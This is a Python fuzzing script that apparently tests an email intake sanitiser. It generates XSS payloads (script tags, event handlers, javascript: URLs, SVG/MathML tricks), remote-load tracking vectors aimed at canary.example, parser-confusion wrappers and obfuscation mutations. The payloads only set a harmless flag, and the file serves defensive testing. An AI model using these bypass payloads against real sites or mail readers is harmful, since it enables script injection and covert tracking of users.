"""Hostile HTML: `python -m dev.hostile --count 1000 --seed 1` prints vectors as JSON, each as written and as the intake keeps it.

A vector is a payload that would run a script, ask the network or leave the page, in a wrapping that confuses parsers, disguised
somehow; a third of them are then mutated. Every script says so on the window above (`pwned`), every address is on `canary.example`.
"""

import argparse
import json
import re
from collections.abc import Iterator
from email.message import EmailMessage
from random import Random

from chalicelib import incoming

JS = "parent.pwned=1;top.pwned=1;window.pwned=1;alert(1)"
AT = "https://canary.example/x"

# What would run.
SCRIPTS = [
    "<script>{js}</script>", "<script src='{at}.js'></script>", "<script type=module src={at}></script>", "<svg><script>{js}</script></svg>",
    "<math><script>{js}</script></math>", "<img src=x onerror='{js}'>", "<img src=x onerror={js}//>", "<image src=x onerror='{js}'>",
    "<svg onload='{js}'>", "<body onload='{js}'>", "<body onpageshow='{js}'>", "<input autofocus onfocus='{js}'>", "<details open ontoggle='{js}'><summary>x</summary></details>",
    "<video src=x onerror='{js}'></video>", "<audio src=x onerror='{js}'></audio>", "<video><source onerror='{js}'></video>", "<marquee onstart='{js}'>x</marquee>",
    "<a href='javascript:{js}'>x</a>", "<a href='&#106;avascript:{js}'>x</a>", "<a href='java\tscript:{js}'>x</a>", "<a href='\x01javascript:{js}'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>", "<a href='data:text/html,<script>{js}</script>'>x</a>", "<area href='javascript:{js}' shape=default>",
    "<form action='javascript:{js}'><button>x</button></form>", "<button formaction='javascript:{js}'>x</button>", "<isindex action='javascript:{js}' type=image>",
    "<iframe src='javascript:{js}'></iframe>", "<iframe srcdoc='<script>{js}</script>'></iframe>", "<embed src='javascript:{js}'>", "<object data='javascript:{js}'></object>",
    "<svg><a xlink:href='javascript:{js}'><text y=20>x</text></a></svg>", "<svg><animate onbegin='{js}' attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to='javascript:{js}'></svg>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{js}</script></svg>#x'></svg>",
    "<svg><foreignObject><img src=x onerror='{js}'></foreignObject></svg>", "<math href='javascript:{js}'>x</math>", "<math><maction actiontype=statusline xlink:href='javascript:{js}'>x</maction></math>",
    "<style onload='{js}'></style>", "<link rel=stylesheet href=x onerror='{js}'>", "<meta http-equiv=refresh content='0;url=javascript:{js}'>", "<base href='javascript:{js}//'>",
    "<div style='width:expression({js})'>x</div>", "<div style='background:url(javascript:{js})'>x</div>", "<div style='-moz-binding:url({at}.xml)'>x</div>", "<x onclick='{js}' id=a tabindex=1 autofocus onfocus='{js}'>x</x>",
    "<div onpointerover='{js}' style='position:fixed;inset:0'>x</div>", "<div style='animation:x 1s' onanimationstart='{js}'>x</div><style>@keyframes x{}</style>", "<select autofocus onfocus='{js}'></select>",
    "<keygen autofocus onfocus='{js}'>", "<textarea autofocus onfocus='{js}'></textarea>", "<object type=text/html data='data:text/html,<script>{js}</script>'></object>", "<xss is=script>{js}</xss>",
    "<dialog open onclose='{js}'><form method=dialog><button autofocus>x</button></form></dialog>", "<div contenteditable onblur='{js}' autofocus>x</div>", "<iframe onload='{js}'></iframe>", "<object onerror='{js}' data=x></object>",
    "<template><script>{js}</script></template>", "<template shadowrootmode=open><img src=x onerror='{js}'></template>", "<portal src='javascript:{js}'></portal>", "<img src='x' onerror=\"{js}\" srcset='x'>",
    "<bgsound src='javascript:{js}'>", "<layer src='javascript:{js}'></layer>", "<frameset onload='{js}'><frame src='javascript:{js}'></frameset>", "<xml id=x><a>&lt;img src=x onerror={js}&gt;</a></xml>",
]  # fmt: skip
# What would tell somebody that the mail is being read.
LOADS = [
    "<img src='{at}.png'>", "<img src=//canary.example/p>", "<img srcset='{at} 1x'>", "<img src='\\\\canary.example\\x'>", "<img src='/canary/relative'>", "<img lowsrc='{at}' dynsrc='{at}'>",
    "<picture><source srcset='{at}'><img></picture>", "<video poster='{at}'></video>", "<video src='{at}' autoplay></video>", "<audio src='{at}' autoplay></audio>", "<track src='{at}'>",
    "<body background='{at}'>", "<table background='{at}'><tr><td background='{at}'>x</td></tr></table>", "<div style='background:url({at})'>x</div>", "<div style='background-image:url(\"{at}\")'>x</div>",
    "<div style='background:u\\72l({at})'>x</div>", "<div style='background:image-set(\"{at}\" 1x)'>x</div>", "<div style='list-style-image:url({at});display:list-item'>x</div>", "<div style='cursor:url({at}),auto'>x</div>",
    "<div style='content:url({at})'>x</div>", "<div style='border-image:url({at}) 1'>x</div>", "<div style='mask:url({at})'>x</div>", "<div style='filter:url({at}#f)'>x</div>", "<div style='shape-outside:url({at})'>x</div>",
    "<div style='--a:url({at});background:var(--a)'>x</div>", "<div style='background:/**/url(/**/{at})'>x</div>", "<div style='color:red;background:url({at}'>x</div>", "<style>@import '{at}.css';</style>",
    "<style>@import url({at}.css);</style>", "<style>body{background:url({at})}</style>", "<style>@font-face{font-family:a;src:url({at})}*{font-family:a}</style>", "<style>a[href^=h]{background:url({at})}</style>",
    "<link rel=stylesheet href='{at}'>", "<link rel=prefetch href='{at}'>", "<link rel=preload as=image href='{at}'>", "<link rel=preconnect href='{at}'>", "<link rel=dns-prefetch href='//canary.example'>",
    "<link rel=modulepreload href='{at}'>", "<link rel=icon href='{at}'>", "<link rel=manifest href='{at}'>", "<link rel=prerender href='{at}'>", "<iframe src='{at}'></iframe>", "<frame src='{at}'>",
    "<object data='{at}'></object>", "<embed src='{at}'>", "<applet code='{at}'></applet>", "<input type=image src='{at}'>", "<svg><image href='{at}'></svg>", "<svg><image xlink:href='{at}'></svg>", "<svg><use href='{at}#x'></svg>",
    "<svg><style>@import '{at}';</style></svg>", "<svg><feImage href='{at}'></svg>", "<svg><rect fill='url({at}#x)' width=9 height=9></svg>", "<math><mglyph src='{at}'></math>", "<form action='{at}'><input type=submit></form>",
    "<meta http-equiv=refresh content='0;url={at}'>", "<meta http-equiv=Link content='<{at}>;rel=preload'>", "<meta http-equiv='Content-Security-Policy' content='default-src *'>", "<base href='//canary.example/'><img src=rel>", "<a ping='{at}' href='{at}'>x</a>",
    "<html manifest='{at}'>", "<script src='{at}'></script>", "<style>body{display:none}#main{display:none}</style>", "<div id=main name=body class=folded style='position:fixed;inset:0;z-index:9'>x</div>", "<img name=body><form id=documentElement></form>",
    "<img src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg><image href={at}></svg>'>", "<img src='data:text/html,<img src={at}>'>", "<img src='blob:{at}'>", "<img src='ftp://canary.example/x'>", "<img src='cid:{at}'>",
]  # fmt: skip
# What makes two parsers see two things.
WRAPS = [
    "{v}", "<div>{v}</div>", "<!--{v}-->", "<!-->{v}-->", "<!--!>{v}", "<!--><img title='-->{v}'>", "<![CDATA[{v}]]>", "<noscript><p title='</noscript>{v}'></noscript>", "<style><a title='</style>{v}'></style>",
    "<title><a title='</title>{v}'></title>", "<textarea><a title='</textarea>{v}'></textarea>", "<xmp><a title='</xmp>{v}'></xmp>", "<noembed><a title='</noembed>{v}'></noembed>", "<iframe><a title='</iframe>{v}'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style>{v}", "<math><mtext><table><mglyph><style><math>{v}", "<svg><style><a title='</style>{v}'>", "<svg><desc><![CDATA[</desc></svg>{v}]]>", "<svg></p><style><a title='</style>{v}'>",
    "<form><math><mtext></form><form><mglyph><style></math>{v}", "<table><caption><svg><title><table><style><a title='</style>{v}'>", "<select><option>{v}</select>", "<table>{v}</table>", "<table><tr>{v}<td>x</table>",
    "<p><b><i>{v}</p></b></i>", "<a href='x'>{v}", "<a title=\"{v}\">x</a>", "<a title='{v}'>x</a>", "<a title={v}>x</a>", "<template>{v}</template>", "<plaintext>{v}", "<listing>{v}</listing>", "<frameset>{v}</frameset>",
    "<blockquote type=cite>{v}</blockquote>", "<pre>\n{v}</pre>", "<ruby><rt>{v}</ruby>", "<button><p>{v}", "<option><style></option></select><b><style>{v}", "<math><annotation-xml encoding='text/html'>{v}</annotation-xml></math>",
    "<math><mi><table><td>{v}", "<object><param>{v}</object>", "<body><body>{v}", "<html><head>{v}<body>", "<?xml version='1.0'?>{v}", "<?php {v} ?>", "<% {v} %>", "</{v}>", "<x:y xmlns:x='{v}'>", "<div><div><div><div><div>{v}",
]  # fmt: skip


def disguises(vector: str, random: Random) -> str:
    """The same, written otherwise."""
    return random.choice(
        (
            lambda text: text,
            lambda text: re.sub(r"<(\w+)", lambda found: "<" + mixed(found[1], random), text),
            lambda text: text.replace(" ", "/", 1),
            lambda text: text.replace(" ", "\t\n", 1),
            lambda text: text.replace("javascript", "java&#10;script"),
            lambda text: text.replace("javascript", "&#x6A;&#x61;vascript&colon;").replace("&colon;:", "&colon;"),
            lambda text: text.replace("https:", "https&colon;"),
            lambda text: text.replace("'", ""),
            lambda text: text.replace("'", '"'),
            lambda text: text.replace("'", "`"),
            lambda text: re.sub(r"(on\w+)=", "\\1\x0c=", text),
            lambda text: re.sub(r"(on\w+)=", "x='\\1=' \\1=", text),
            lambda text: text.replace("<", "<\x00", 1),
            lambda text: text.replace("s", "\u017f", 1),
            lambda text: text.replace("url(", "u\\000072l("),
            lambda text: text.rstrip(">"),
            lambda text: text * 2,
            lambda text: f"{text}<!--",
            lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
            lambda text: text.replace("<", "\u003c").replace("script", "scr\u200bipt"),
        )
    )(vector)


def mixed(name: str, random: Random) -> str:
    return "".join(random.choice((letter.upper(), letter.lower())) for letter in name)


def mutated(text: str, random: Random) -> str:
    """A few characters cut, doubled, swapped or put in."""
    for _ in range(random.randint(1, 4)):
        at, to = sorted(random.randrange(len(text) + 1) for _ in range(2))
        text = random.choice(
            (
                text[:at] + text[to:] if to - at < 12 else text,
                text[:at] + text[at:to] * 2 + text[to:] if to - at < 40 else text,
                text[:at] + random.choice("<>\"'`=/&;:\x00\t\n -!") + text[at:],
                text[:at]
                + random.choice(("<svg>", "</style>", "<math>", "-->", "]]>", "</p>", "<table>", "<!--"))
                + text[at:],
            )
        )
    return text


def vectors(count: int, seed: int) -> Iterator[str]:
    """Different ones, `count` of them."""
    random, seen = Random(seed), set()
    while len(seen) < count:
        payload = (
            random.choice(SCRIPTS if random.random() < 0.5 else LOADS)
            .replace("{js}", JS)
            .replace("{at}", f"{AT}{len(seen)}")
        )
        wrap = random.choice(WRAPS) if random.random() < 0.7 else "{v}"
        vector = wrap.replace("{v}", disguises(payload, random))
        if random.random() < 0.33:
            vector = mutated(vector, random)
        if vector not in seen:
            seen.add(vector)
            yield vector


def taken_in(vector: str) -> str:
    """The HTML of the article that a mail of it becomes."""
    message = EmailMessage()
    message["From"], message["Subject"] = "eve@evil.example", "Hello"
    message.set_content("Hello")
    message.add_alternative(vector, subtype="html")
    return incoming.parse(message.as_bytes()).html or ""


def main() -> None:
    parser = argparse.ArgumentParser(description="Hostile HTML as JSON.")
    parser.add_argument("--count", type=int, default=100)
    parser.add_argument("--seed", type=int, default=1)
    asked = parser.parse_args()
    print(json.dumps([{"raw": each, "safe": taken_in(each)} for each in vectors(asked.count, asked.seed)]))


if __name__ == "__main__":
    main()
